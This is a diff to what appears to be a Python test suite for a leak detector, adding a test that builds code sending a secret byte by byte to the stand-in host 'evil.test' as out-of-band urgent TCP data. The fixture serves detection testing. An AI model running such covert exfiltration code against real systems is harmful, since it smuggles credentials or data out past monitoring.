@@ -247,6 +247,16 @@ def test_raw_text_that_carries_nothing_leaves_no_doubt(measure: Measure) -> None
     assert seen.secret_left is CheckState.UNMET
 
 
+@pytest.mark.parametrize(("port", "before"), [(9000, ""), (80, "GET / HTTP/1.1\\r\\nhost: evil.test\\r\\n\\r\\n")])
+def test_urgent_bytes_are_read_like_others(measure: Measure, port: int, before: str) -> None:
+    code = (
+        "import socket\n"
+        f"s = socket.create_connection(('evil.test', {port})); s.sendall(b'{before}')\n"
+        f"for byte in b'{SECRET}': s.send(bytes([byte]), socket.MSG_OOB)"
+    )
+    assert measure(*python(code)).secret_left is CheckState.MET
+
+
 def test_bytes_that_are_no_text_may_be_anything(measure: Measure) -> None:
     code = "import socket; s = socket.create_connection(('vpn.test', 1194)); s.sendall(bytes(range(256)))"
     seen = measure(*python(code))
